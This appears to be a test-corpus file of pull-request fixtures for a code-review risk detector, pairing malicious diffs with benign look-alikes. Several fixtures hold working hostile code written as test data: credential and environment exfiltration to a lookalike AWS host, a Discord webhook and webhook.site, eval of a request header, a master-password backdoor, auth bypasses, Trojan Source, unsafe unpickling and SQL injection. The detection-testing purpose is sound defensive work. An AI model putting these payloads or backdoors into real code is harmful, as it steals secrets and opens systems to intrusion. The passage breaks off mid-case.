/** Corpus risky code change cases (sinks, guards switched off, secrets, hidden characters, and their benign look-alikes). */
import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
import { makePrFixture } from '../../support/pr-fixture.js';
import type { CorpusEntry } from '../helpers.js';
import { daysAgo, lines, nodeCi } from '../helpers.js';
import { ciWorkflow } from './ci.js';

interface CodePr {
  readonly repo: string;
  readonly number: number;
  readonly title: string;
  readonly files: FixtureFile[];
  /** A long-standing member by default; `newcomer` for a first-time contributor from a fork. */
  readonly author?: 'member' | 'newcomer';
  readonly commits?: string[];
  /** Files of the base commit the PR does not change (a package.json whose install script runs a changed file). */
  readonly baseFiles?: Record<string, string>;
}

/** A PR with green CI: only what the code does decides the verdict (the attack cases of attacks.ts use it too). */
export function codePr(spec: CodePr): PrFixture {
  const member = spec.author !== 'newcomer';
  return makePrFixture({
    owner: 'acme',
    repo: spec.repo,
    number: spec.number,
    title: spec.title,
    author: member ? { login: 'mchen', association: 'MEMBER', createdAt: '2016-04-01T00:00:00Z' } : { login: 'quickfix-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2025-09-01T00:00:00Z' },
    fork: !member,
    files: spec.files,
    commits: (spec.commits ?? [spec.title]).map((message) => ({ message })),
    checkRuns: nodeCi(),
    priorPrs: member ? { total: 240, merged: 231 } : { total: 1, merged: 0 },
    createdAt: daysAgo(1),
    ...(spec.baseFiles === undefined ? {} : { baseFiles: spec.baseFiles }),
  });
}

const SERVER_BASE = lines(
  "import express from 'express';",
  '',
  'export const app = express();',
  '',
  "app.get('/health', (req, res) => {",
  "  res.status(200).json({ status: 'ok', mesage: 'all systems nominal' });",
  '});',
);

const SESSIONS_BASE = lines(
  'class Session(SessionRedirectMixin):',
  '    def __init__(self):',
  '        self.headers = default_headers()',
  '        self.max_redirects = 30',
  '        self.trust_env = True',
);

const UTILS_BASE = lines(
  'def get_environ_proxies(url, no_proxy=None):',
  '    if should_bypass_proxies(url, no_proxy=no_proxy):',
  '        return {}',
  '    return getproxies()',
);

const CONTROLLER_BASE = lines(
  'class Admin::UsersController < ApplicationController',
  '  before_action :authenticate_user!',
  '  before_action :require_admin',
  '',
  '  def destroy',
  '    User.find(params[:id]).destroy',
  '  end',
  'end',
);

const PRIVATE_KEY = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
  'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK',
  'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo',
  '-----END RSA PRIVATE KEY-----',
];

/** An HTTP client's options class whose internals live in `field` (`_internals` or the ES private `#internals`); `strict` is what the strictContentLength setter stores. */
const optionsClass = (field: string, strict: string): string =>
  lines(
    'export default class Options {',
    field.startsWith('#') ? `\treadonly ${field}: Internals;` : `\tprivate readonly ${field}: Internals;`,
    '',
    '\tconstructor(internals: Internals) {',
    `\t\tthis.${field} = internals;`,
    '\t}',
    '',
    '\tget maxHeaderSize(): number | undefined {',
    `\t\treturn this.${field}.maxHeaderSize;`,
    '\t}',
    '',
    '\tset maxHeaderSize(value: number | undefined) {',
    `\t\tthis.${field}.maxHeaderSize = value;`,
    '\t}',
    '',
    '\tget strictContentLength(): boolean {',
    `\t\treturn this.${field}.strictContentLength;`,
    '\t}',
    '',
    '\tset strictContentLength(value: boolean) {',
    `\t\tthis.${field}.strictContentLength = ${strict};`,
    '\t}',
    '}',
  );

export const CODE_CASES: CorpusEntry[] = [
  {
    id: 'code-typo-title-eval-of-header',
    description: 'A first-time contributor titles a PR "Fix typo in health message"; it also evals a request header.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3101,
        title: 'Fix typo in health message',
        author: 'newcomer',
        files: [
          {
            path: 'src/server.ts',
            base: SERVER_BASE,
            head: SERVER_BASE.replace('mesage', 'message').replace("app.get('/health', (req, res) => {\n", "app.get('/health', (req, res) => {\n  const probe = req.headers['x-health-probe'];\n  if (probe) eval(String(probe));\n"),
          },
        ],
      }),
    expect: { level: 'critical', action: 'request_changes', findings: ['dynamic-code-execution', 'pr-claim-mismatch'], drivers: ['finding:dynamic-code-execution'] },
  },
  {
    id: 'code-typo-fix-is-a-typo-fix',
    description: 'A member fixes a typo in a string of a source file, and says so.',
    fixture: () =>
      codePr({ repo: 'storefront', number: 3102, title: 'Fix typo in health message', files: [{ path: 'src/server.ts', base: SERVER_BASE, head: SERVER_BASE.replace('mesage', 'message') }] }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-go-init-posts-aws-keys-to-lookalike',
    description:
      'A "refactor: simplify telemetry setup" PR adds a Go init(), which runs whenever the package is imported, that joins AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY into one value and hands it to a helper of the same file posting to awsstatus-cdn.com, a host dressed as AWS\'s (the shape of the Go module typosquats of 2024-2025 that read cloud credentials at import).',
    fixture: () =>
      codePr({
        repo: 'cloudkit',
        number: 3197,
        title: 'refactor: simplify telemetry setup',
        files: [
          {
            path: 'internal/telemetry/init.go',
            head: [
              'package telemetry',
              '',
              'import (',
              '\t"bytes"',
              '\t"net/http"',
              '\t"os"',
              ')',
              '',
              'func init() {',
              '\tpayload := os.Getenv("AWS_ACCESS_KEY_ID") + ":" + os.Getenv("AWS_SECRET_ACCESS_KEY")',
              '\tgo report(payload)',
              '}',
              '',
              'func report(p string) {',
              '\treq, _ := http.NewRequest(http.MethodPost, "https://awsstatus-cdn.com/v1/health", bytes.NewBufferString(p))',
              '\treq.Header.Set("Content-Type", "text/plain")',
              '\t_, _ = http.DefaultClient.Do(req)',
              '}',
              '',
            ].join('\n'),
          },
        ],
      }),
    expect: { level: 'critical', action: 'request_changes', findings: ['suspicious-network-endpoint'], drivers: ['finding:suspicious-network-endpoint'] },
  },
  {
    id: 'code-go-init-configures-s3-client',
    description: 'A member moves the S3 client set-up into an init() that reads the AWS keys from the environment for the official SDK, beside a helper that posts a start-up notice (the region, no secret) to the project\'s own status host.',
    fixture: () =>
      codePr({
        repo: 'cloudkit',
        number: 3198,
        title: 'refactor: build the S3 client once',
        files: [
          {
            path: 'internal/storage/client.go',
            head: [
              'package storage',
              '',
              'import (',
              '\t"context"',
              '\t"net/http"',
              '\t"os"',
              '\t"strings"',
              '',
              '\t"github.com/aws/aws-sdk-go-v2/config"',
              '\t"github.com/aws/aws-sdk-go-v2/credentials"',
              '\t"github.com/aws/aws-sdk-go-v2/service/s3"',
              ')',
              '',
              'var client *s3.Client',
              '',
              'func notify(msg string) {',
              '\t_, _ = http.Post("https://status.cloudkit-internal.dev/events", "text/plain", strings.NewReader(msg))',
              '}',
              '',
              'func init() {',
              '\tkey := os.Getenv("AWS_SECRET_ACCESS_KEY")',
              '\tid := os.Getenv("AWS_ACCESS_KEY_ID")',
              '\tcreds := credentials.NewStaticCredentialsProvider(id, key, "")',
              '\tcfg, err := config.LoadDefaultConfig(context.Background(), config.WithCredentialsProvider(creds))',
              '\tif err != nil {',
              '\t\tpanic(err)',
              '\t}',
              '\tclient = s3.NewFromConfig(cfg)',
              '\tnotify("storage ready in " + os.Getenv("AWS_REGION"))',
              '}',
              '',
            ].join('\n'),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
  },
  {
    id: 'code-http-library-sessions-one-line',
    description: "An HTTP library's sessions.py: a one-line default change that does not touch authentication (no security label, no 'add a test').",
    fixture: () =>
      codePr({ repo: 'requests', number: 6701, title: 'Use the redirect limit constant', files: [{ path: 'src/requests/sessions.py', base: SESSIONS_BASE, head: SESSIONS_BASE.replace('= 30', '= DEFAULT_REDIRECT_LIMIT') }] }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'code-git-tool-checkout',
    description: "A git tool's `checkout` command gets a default branch: not payments.",
    fixture: () =>
      codePr({
        repo: 'gitkit',
        number: 412,
        title: 'checkout: default to the main branch',
        files: [{ path: 'src/commands/checkout.ts', base: lines('export function checkout(args: string[]) {', '  const branch = args[0];', '  return switchTo(branch);', '}'), head: lines('export function checkout(args: string[]) {', "  const branch = args[0] ?? 'main';", '  return switchTo(branch);', '}') }],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  },
  {
    id: 'code-tls-verification-off-in-utils',
    description: 'A member turns off certificate verification in an ordinary-looking utils.py.',
    fixture: () =>
      codePr({
        repo: 'billing-sync',
        number: 88,
        title: 'Work around the partner certificate error',
        files: [{ path: 'sync/utils.py', base: lines('def fetch(url):', '    return session.get(url, timeout=10)'), head: lines('def fetch(url):', '    return session.get(url, timeout=10, verify=False)') }],
      }),
    expect: { level: 'high', action: 'request_changes', findings: ['tls-verification-disabled'] },
  },
  {
    id: 'code-tls-option-in-test-helper',
    description: 'A Go test helper skips verification against its own self-signed test server: not a finding.',
    fixture: () =>
      codePr({
        repo: 'gateway',
        number: 930,
        title: 'testutil: TLS client for the test server',
        files: [
          { path: 'internal/testutil/tls.go', head: lines('package testutil', '', 'func InsecureClient() *http.Client {', '\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}', '}') },
          { path: 'internal/proxy/proxy_test.go', base: lines('package proxy'), head: lines('package proxy', '', 'var client = testutil.InsecureClient()') },
        ],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-proxy-bypass-parsing',
    description: "A change to how no_proxy bypasses are parsed, in a file named utils.py: low, but a driver points at it.",
    fixture: () =>
      codePr({
        repo: 'requests',
        number: 6702,
        title: 'Accept CIDR ranges in no_proxy',
        files: [{ path: 'src/requests/utils.py', base: UTILS_BASE, head: UTILS_BASE.replace('    if should_bypass_proxies(url, no_proxy=no_proxy):', '    no_proxy = parse_no_proxy(no_proxy)\n    if should_bypass_proxies(url, no_proxy=no_proxy):') }],
      }),
    expect: { level: ['low', 'medium'], action: ['comment', 'approve'], findings: ['security-parsing-changed'], drivers: ['finding:security-parsing-changed'] },
  },
  {
    id: 'code-auth-check-removed',
    description: 'A Rails controller loses its authenticate_user! guard.',
    fixture: () =>
      codePr({ repo: 'backoffice', number: 2210, title: 'Simplify the users controller', files: [{ path: 'app/controllers/admin/users_controller.rb', base: CONTROLLER_BASE, head: CONTROLLER_BASE.replace('  before_action :authenticate_user!\n', '') }] }),
    expect: { level: 'high', action: 'request_changes', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-auth-check-moved',
    description: 'The route-level auth check moves to app-level middleware: a refactor, weighed medium.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3103,
        title: 'Apply authentication to the whole admin router',
        files: [
          { path: 'src/routes/admin.ts', base: lines("router.get('/admin/orders', requireAuth(), listOrders);"), head: lines("router.get('/admin/orders', listOrders);") },
          { path: 'src/app.ts', base: lines("app.use('/admin', adminRouter);"), head: lines("app.use('/admin', requireAuth(), adminRouter);") },
        ],
      }),
    expect: { level: 'medium', action: 'comment', findings: ['auth-check-removed'] },
  },
  {
    id: 'code-github-token-committed',
    description: 'A GitHub token pasted into a config module.',
    fixture: () =>
      codePr({ repo: 'release-bot', number: 77, title: 'Configure the release token', files: [{ path: 'src/config.ts', base: lines("export const owner = 'acme';"), head: lines("export const owner = 'acme';", `export const token = 'ghp_${'R7tYp2Lw9Qx4Zc8Vb1Nm6Kj3Hg5Fd0Sa2We7'}';`) }] }),
    expect: { level: 'high', action: 'request_changes', findings: ['secret-added'] },
  },
  {
    id: 'code-script-edit-keeps-credentials-value',
    description:
      "Modeled on a date library's \"Replace npm with pnpm\": a maintainer's release script swaps `npx` for `pnpm` on a line that already set GOOGLE_APPLICATION_CREDENTIALS to a key file path: the value was in the base, so no secret is added (it was high for secret-added).",
    fixture: () =>
      codePr({
        repo: 'release-bot',
        number: 78,
        title: 'Run the docs uploader through pnpm',
        files: [
          {
            path: 'scripts/release/upload-docs.sh',
            base: lines('#!/bin/bash', 'set -e', './scripts/build/docs.sh', 'env GOOGLE_APPLICATION_CREDENTIALS="keys/$DEPLOY_ENV/uploader.json" npx docs-uploader docs/config.js'),
            head: lines('#!/bin/bash', 'set -e', './scripts/build/docs.sh', 'env GOOGLE_APPLICATION_CREDENTIALS="keys/$DEPLOY_ENV/uploader.json" pnpm docs-uploader docs/config.js'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:secret-added'] },
  },
  {
    id: 'code-typo-fix-renames-acronym-identifier',
    description:
      "Modeled on a code formatter's \"Fix typo\": a maintainer renames isLESSMixinNde to isLessMixinNode (the typo and the acronym's case) in its module, the import that binds it and the printer that reads the node flag. An identifier respelled across files: no pr-claim-mismatch (it was medium).",
    fixture: () =>
      codePr({
        repo: 'style-engine',
        number: 79,
        title: 'Fix typo',
        files: [
          { path: 'src/less/utils/is-less-mixin-node.js', base: lines('function isLESSMixinNde(node) {', '  return node.type === "mixin";', '}', 'export default isLESSMixinNde;'), head: lines('function isLessMixinNode(node) {', '  return node.type === "mixin";', '}', 'export default isLessMixinNode;') },
          { path: 'src/less/parser.js', base: lines('import isLESSMixinNde from "./utils/is-less-mixin-node.js";', 'export function mark(node) {', '  if (isLESSMixinNde(node)) node.isLESSMixinNde = true;', '}'), head: lines('import isLessMixinNode from "./utils/is-less-mixin-node.js";', 'export function mark(node) {', '  if (isLessMixinNode(node)) node.isLessMixinNode = true;', '}') },
          { path: 'src/less/printer.js', base: lines('export function print(node) {', '  return node.isLESSMixinNde ? node.value : node.raw;', '}'), head: lines('export function print(node) {', '  return node.isLessMixinNode ? node.value : node.raw;', '}') },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:pr-claim-mismatch'] },
  },
  {
    id: 'code-private-key-committed',
    description: 'A deploy key committed under config/.',
    fixture: () => codePr({ repo: 'infra-tools', number: 301, title: 'Add deploy key', files: [{ path: 'config/deploy_key.pem', head: lines(...PRIVATE_KEY) }] }),
    expect: { level: 'critical', action: 'request_changes', findings: ['private-key-added'] },
  },
  {
    id: 'code-test-key-in-testdata',
    description: "A test server's key under testdata/: reported as medium (a throwaway test key should say so), not a blocker.",
    fixture: () =>
      codePr({
        repo: 'gateway',
        number: 931,
        title: 'TLS tests: server key',
        files: [
          { path: 'internal/tlsconf/testdata/server.key', head: lines(...PRIVATE_KEY) },
          { path: 'internal/tlsconf/tlsconf_test.go', base: lines('package tlsconf'), head: lines('package tlsconf', '', 'const keyFile = "testdata/server.key"') },
        ],
      }),
    expect: { level: 'medium', action: 'comment', findings: ['private-key-added'] },
  },
  {
    id: 'code-trojan-source',
    description: 'A right-to-left override hides the end of an access check (Trojan Source).',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3104,
        title: 'Tidy the access check',
        author: 'newcomer',
        files: [{ path: 'src/access.ts', base: lines('export function canEdit(role: string) {', "  return role === 'admin';", '}'), head: lines('export function canEdit(role: string) {', "  return role === 'admin\u202E && \u2066// check later\u2069 \u2066' || true;", '}') }],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['bidi-control-character'] },
  },
  {
    id: 'code-pickle-from-request',
    description: 'A Flask endpoint unpickles the request body.',
    fixture: () =>
      codePr({
        repo: 'ml-serving',
        number: 145,
        title: 'Accept pickled feature vectors',
        files: [{ path: 'serving/api.py', base: lines('@app.post("/predict")', 'def predict():', '    features = request.get_json()', '    return model.predict(features)'), head: lines('@app.post("/predict")', 'def predict():', '    features = pickle.loads(request.data)', '    return model.predict(features)') }],
      }),
    expect: { level: 'high', action: 'request_changes', findings: ['unsafe-deserialization'] },
  },
  {
    id: 'code-csharp-typenamehandling-default-auto',
    description:
      "A member's 'Tidy serializer settings' moves a JSON library's default TypeNameHandling from None to Auto: every caller's payload may now name the .NET type to create (the Json.NET gadget chains). Low with no finding before 2026-12-01; unsafe-deserialization, medium.",
    fixture: () =>
      codePr({
        repo: 'jsonkit-net',
        number: 6090,
        title: 'Tidy serializer settings',
        files: [
          {
            path: 'Src/Acme.Json/JsonSerializerSettings.cs',
            base: lines('namespace Acme.Json', '{', '    public class JsonSerializerSettings', '    {', '        internal const TypeNameHandling DefaultTypeNameHandling = TypeNameHandling.None;', '        internal const int DefaultMaxDepth = 64;', '    }', '}'),
            head: lines('namespace Acme.Json', '{', '    public class JsonSerializerSettings', '    {', '        internal const TypeNameHandling DefaultTypeNameHandling = TypeNameHandling.Auto;', '        internal const int DefaultMaxDepth = 64;', '    }', '}'),
          },
        ],
      }),
    expect: { level: 'medium', action: ['comment', 'needs_discussion', 'request_changes'], findings: ['unsafe-deserialization'] },
  },
  {
    id: 'code-ruby-session-check-block-or-true',
    description:
      "A member's 'Refactor session tracking' appends `|| true` to the block that compares a session's tracked request headers: the session-hijacking protection accepts every request. Low with no finding before 2026-12-01 (the operator followed a block's closing brace); auth-bypass-added, high.",
    fixture: () =>
      codePr({
        repo: 'rack-guard',
        number: 6091,
        title: 'Refactor session tracking',
        files: [{ path: 'lib/rack/guard/session_hijacking.rb', base: lines('module Rack', '  module Protection', '    class SessionHijacking < Base', '      default_reaction :drop_session', '', '      def accepts?(env)', '        session = session(env)', '        key = options[:tracking_key]', '        if session.include? key', '          session[key].all? { |k, v| v == encode(env[k]) }', '        else', '          session[key] = {}', '          options[:track].each { |k| session[key][k] = encode(env[k]) }', '        end', '      end', '    end', '  end', 'end'), head: lines('module Rack', '  module Protection', '    class SessionHijacking < Base', '      default_reaction :drop_session', '', '      def accepts?(env)', '        session = session(env)', '        key = options[:tracking_key]', '        if session.include? key', '          session[key].all? { |k, v| v == encode(env[k]) } || true', '        else', '          session[key] = {}', '          options[:track].each { |k| session[key][k] = encode(env[k]) }', '        end', '      end', '    end', '  end', 'end') }],
      }),
    expect: { level: 'high', action: 'request_changes', findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-docs-mention-eval',
    description: 'Security docs that mention eval, verify=False and pickle: no finding.',
    fixture: () =>
      codePr({
        repo: 'ml-serving',
        number: 146,
        title: 'Docs: what not to do',
        files: [{ path: 'docs/security.md', base: lines('# Security'), head: lines('# Security', '', 'Never `eval()` input, never pass `verify=False`, never `pickle.loads(request.data)`.') }],
      }),
    expect: { level: 'low', action: 'approve', noFindings: true },
  },
  {
    id: 'code-env-to-discord-webhook',
    description: 'A "telemetry" script posts the environment to a Discord webhook.',
    fixture: () =>
      codePr({
        repo: 'storefront',
        number: 3105,
        title: 'Add build telemetry',
        author: 'newcomer',
        files: [{ path: 'scripts/telemetry.js', head: lines("const body = JSON.stringify(process.env);", "fetch('https://discord.com/api/webhooks/1234/abcd', { method: 'POST', body });") }],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
  },
  {
    id: 'code-test-fixture-sends-environment',
    description: 'A first-time contributor "adds an integration test" whose autouse session fixture posts the environment (CI secrets) to webhook.site.',
    fixture: () =>
      codePr({
        repo: 'billing',
        number: 3106,
        title: 'Add integration test for config loading',
        author: 'newcomer',
        files: [
          {
            path: 'tests/conftest.py',
            base: lines('import pytest'),
            head: lines('import os', 'import pytest', 'import requests', '', '@pytest.fixture(autouse=True, scope="session")', 'def _config_report():', '    requests.post("https://webhook.site/3f1c2b9e-1a2b-4c5d-8e9f-0a1b2c3d4e5f", json=dict(os.environ), timeout=3)', '    yield'),
          },
          { path: 'tests/test_config.py', head: lines('def test_loads(config):', '    assert config.load("defaults.toml")') },
        ],
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
  },
  {
    id: 'code-test-posts-to-mocked-slack',
    description: 'A member tests the Slack notifier with a webhook URL as data and reads a base URL from the environment: ordinary tests.',
    fixture: () =>
      codePr({
        repo: 'pager',
        number: 3107,
        title: 'Test the Slack notifier',
        files: [
          { path: 'src/pager/notify.py', base: lines('def notify(url, text):', '    return post(url, json={"text": text})'), head: lines('def notify(url, text, timeout=5):', '    return post(url, json={"text": text}, timeout=timeout)') },
          {
            path: 'tests/test_notify.py',
            head: lines('import os', '', 'def test_notify(httpserver):', '    base = os.environ.get("PAGER_TEST_BASE", httpserver.url_for("/"))', '    assert notify("https://hooks.slack.com/services/T000/B000/XXXX", "paid", timeout=1) is not None', '    assert base'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  },
  {
    id: 'code-debug-header-skips-admin-check',
    description: 'A first-time contributor\'s "simplify admin check" adds a request header that lets any request through the admin middleware.',
    fixture: () =>
      codePr({
        repo: 'console',
        number: 3108,
        title: 'refactor: simplify admin check',
        author: 'newcomer',
        files: [
          {
            path: 'src/middleware/admin.js',
            base: lines('export function requireAdmin(req, res, next) {', '  if (!req.user || !req.user.isAdmin) return res.status(403).end();', '  next();', '}'),
            head: lines('export function requireAdmin(req, res, next) {', "  if (req.headers['x-debug-mode'] === '1') return next();", '  if (!req.user || !req.user.isAdmin) return res.status(403).end();', '  next();', '}'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-master-password',
    description: 'A "handle empty password" fix that accepts a fixed password for every account.',
    fixture: () =>
      codePr({
        repo: 'console',
        number: 3109,
        title: 'fix: handle empty password',
        author: 'newcomer',
        files: [
          {
            path: 'src/accounts/login.py',
            base: lines('def check_password(user, password):', '    return bcrypt.checkpw(password.encode(), user.hash)'),
            head: lines('def check_password(user, password):', '    if password == "Tr0ub4dor&3-maint":', '        return True', '    return bcrypt.checkpw(password.encode(), user.hash)'),
          },
        ],
      }),
    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-csharp-typo-fix-allows-anonymous',
    description: 'A "Fix typo" PR from a first-time contributor that fixes a comment in an ASP.NET Core admin controller and adds [AllowAnonymous] to its delete action.',
    fixture: () =>
      codePr({
        repo: 'backoffice',
        number: 812,
        title: 'Fix typo',
        author: 'newcomer',
        files: [
          {
            path: 'src/Backoffice.Api/Controllers/UsersController.cs',
            base: lines('[Authorize(Roles = "Admin")]', '[ApiController]', 'public class UsersController : ControllerBase', '{', '    // Delets a user acount', '    [HttpDelete("{id}")]', '    public IActionResult Delete(int id) => Ok(_users.Delete(id));', '}'),
            head: lines('[Authorize(Roles = "Admin")]', '[ApiController]', 'public class UsersController : ControllerBase', '{', '    // Deletes a user account', '    [AllowAnonymous]', '    [HttpDelete("{id}")]', '    public IActionResult Delete(int id) => Ok(_users.Delete(id));', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['auth-bypass-added', 'pr-claim-mismatch'] },
  },
  {
    id: 'code-csharp-refactor-interpolates-sql',
    description: 'A "Refactor" of a C# repository that drops the SqlCommand parameter and interpolates the name into the query text.',
    fixture: () =>
      codePr({
        repo: 'backoffice',
        number: 815,
        title: 'Refactor',
        author: 'newcomer',
        files: [
          {
            path: 'src/Backoffice.Data/UserRepository.cs',
            base: lines('public User Find(string name)', '{', '    using var cmd = new SqlCommand("SELECT * FROM Users WHERE Name = @name", _conn);', '    cmd.Parameters.AddWithValue("@name", name);', '    return Read(cmd);', '}'),
            head: lines('public User Find(string name)', '{', '    using var cmd = new SqlCommand($"SELECT * FROM Users WHERE Name = \'{name}\'", _conn);', '    return Read(cmd);', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['sql-parameters-dropped'] },
  },
  {
    id: 'code-multiline-condition-never-refuses',
    description: 'A "Simplify check" PR from a first-time contributor that appends `&& false` to the second line of a permission check written over several lines: the refusal never runs.',
    fixture: () =>
      codePr({
        repo: 'docs-portal',
        number: 2207,
        title: 'Simplify check',
        author: 'newcomer',
        files: [
          {
            path: 'src/middleware/can-edit.ts',
            base: lines('export function canEdit(req: Request, res: Response, next: NextFunction) {', '  if (', '    !req.user ||', '    !isOwner(req.user, req.params.docId)', '  ) {', '    return res.sendStatus(403);', '  }', '  return next();', '}'),
            head: lines('export function canEdit(req: Request, res: Response, next: NextFunction) {', '  if (', '    !req.user ||', '    !isOwner(req.user, req.params.docId) && false', '  ) {', '    return res.sendStatus(403);', '  }', '  return next();', '}'),
          },
        ],
      }),
    expect: { level: ['high', 'critical'], action: ['request_changes'], findings: ['auth-bypass-added'] },
  },
  {
    id: 'code-constant-false-switches-off-unbuilt-path',
    description:
      'A maintainer reworks the publish command: the in-process two-factor flow is not built yet, so its branch is switched off with `false &&` (lint exception and TODO beside it) and every publish takes the interactive path, where npm asks for the one-time password; tests and CI green. The branch switched off refuses nothing: another path, not a check.',
    fixture: () =>
      codePr({
        repo: 'release-kit',
        number: 2291,
        title: 'Rework the publish flow',
        files: [
          {
            path: 'packages/cli/src/commands/publish/publish-packages.ts',
            base: lines('export async function publishOne(item: Item, queue: Queue): Promise<Result> {', '  let result = await queue.add(() => publishTool.publish(item));', '  if (result.needsOtp) {', '    result = await queue.add(() => publishTool.publish(item, { interactive: true }));', '  }', '  return result;', '}'),
            head: lines('export async function publishOne(item: Item, queue: Queue): Promise<Result> {', '  let result = await queue.add(() => publishTool.publish(item));', '  if (result.needsOtp) {', '    // if we have what we need, run 2fa in-process', '    // TODO: implement in a follow-up PR', '    // eslint-disable-next-line no-constant-binary-expression, no-constant-condition', '    if (false && result.authUrl != null && result.doneUrl != null) {', '      // await handle2fa(result);', '    } else {', '      // run publish again in TTY mode, the user handles 2fa for us', '      result = await queue.add(() => publishTool.publish(item, { interactive: true }));', '    }', '  }', '  return result;', '}'),
          },
          {
            path: 'packages/cli/src/commands/publish/publish-packages.test.ts',
            base: lines("import { it, expect } from 'vitest';", "import { publishOne } from './publish-packages.js';", '', "it('publishes', async () => expect((await publishOne(item, queue)).ok).toBe(true));"),
            head: lines("import { it, expect } from 'vitest';", "import { publishOne } from './publish-packages.js';", '', "it('publishes', async () => expect((await publishOne(item, queue)).ok).toBe(true));", "it('asks for the one-time password interactively', async () => expect((await publishOne(otpItem, queue)).interactive).toBe(true));"),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:auth-bypass-added'] },
  },
  {
    id: 'code-typed-headers-and-typeof-password',
    description:
      'A maintainer of an HTTP framework types its response headers (a map whose CORS member lists "*" among the values the header may take) and lets the session sealer take a password or a map of passwords, telling them apart with `typeof password === "string"`; tests and CI green. A type sets no header, and a typeof test compares no password.',
    fixture: () =>
      codePr({
        repo: 'http-kit',
        number: 2292,
        title: 'feat: typed response headers and password maps for sessions',
        files: [
          {
            path: 'src/types/headers.ts',
            base: lines('export type AnyString = string & {};', '', 'export interface ResponseHeaderMap {', '  "content-type": AnyString;', '}'),
            head: lines('export type AnyString = string & {};', '', 'export interface ResponseHeaderMap {', '  "content-type": AnyString;', '  "access-control-allow-credentials": "true" | AnyString;', '  "access-control-allow-origin": "*" | "null" | AnyString;', '  "access-control-allow-methods": "*" | AnyString;', '}'),
          },
          {
            path: 'src/session/seal.ts',
            base: lines('export async function unseal(sealed: string, password: string): Promise<unknown> {', '  const key = await deriveKey(password);', '  return decrypt(sealed, key);', '}'),
            head: lines('export type Password = string | Uint8Array | Record<string, string>;', '', 'export async function unseal(sealed: string, password: Password, id = "default"): Promise<unknown> {', '  let pass: string | Uint8Array;', '  if (typeof password === "string" || password instanceof Uint8Array) {', '    pass = password;', '  } else if (id in password) {', '    pass = password[id]!;', '  } else {', '    throw new Error(`Cannot find password: ${id}`);', '  }', '  const key = await deriveKey(pass);', '  return decrypt(sealed, key);', '}'),
          },
          {
            path: 'test/session.test.ts',
            base: lines("import { it, expect } from 'vitest';", "import { seal, unseal } from '../src/session/seal.js';", '', "it('round-trips', async () => expect(await unseal(await seal({ a: 1 }, pw), pw)).toEqual({ a: 1 }));"),
            head: lines("import { it, expect } from 'vitest';", "import { seal, unseal } from '../src/session/seal.js';", '', "it('round-trips', async () => expect(await unseal(await seal({ a: 1 }, pw), pw)).toEqual({ a: 1 }));", "it('takes a map of passwords', async () => expect(await unseal(await seal({ a: 1 }, pw), { default: pw })).toEqual({ a: 1 }));"),
          },
        ],
      }),
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:cors-permissive', 'finding:auth-bypass-added'] },
  },
  {
    id: 'code-generated-mime-type-union',
    description:
      'A maintainer of an HTTP framework adds a generated TypeScript type listing every MIME type, one type alias of string literals joined by | on a single 9,000-character line, and uses it in the typed response helpers; CI green. A type of string literals is erased when compiled: nothing on the line runs.',
    fixture: () =>
      codePr({
        repo: 'http-kit',
        number: 2293,
        title: 'feat: typed MIME types',
        files: [
          {
            path: 'src/types/mimes.ts',
            head: lines('// Generated from the IANA media types registry by scripts/gen-mimes.ts.', '// prettier-ignore', `export type MimeType = ${Array.from({ length: 260 }, (_, i) => `'application/vnd.example-format-${i}+json'`).join('|')};`),
          },
          {
            path: 'src/response.ts',
            base: lines('export function contentType(res: Response, type: string): void {', "  res.headers.set('content-type', type);", '}'),
            head: lines("import type { MimeType } from './types/mimes.js';", '', 'export function contentType(res: Response, type: MimeType | (string & {})): void {', "  res.headers.set('content-type', type);", '}'),
          },
        ],
      }),
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:minified-source'] },
  },
  {
    id: 'code-eager-import-loop-beside-audit-hook',
    description:
      'A maintainer of a package installer warns on imports that happen after installation starts: an audit hook whose `module = args[0]` names the module being imported, and, in another function, a loop that imports a fixed tuple of vendored modules first; tests and CI green. The loop loads one of the names the project lists; the hook\'s variable of the same name is another.',
    fixture: () =>
      codePr({
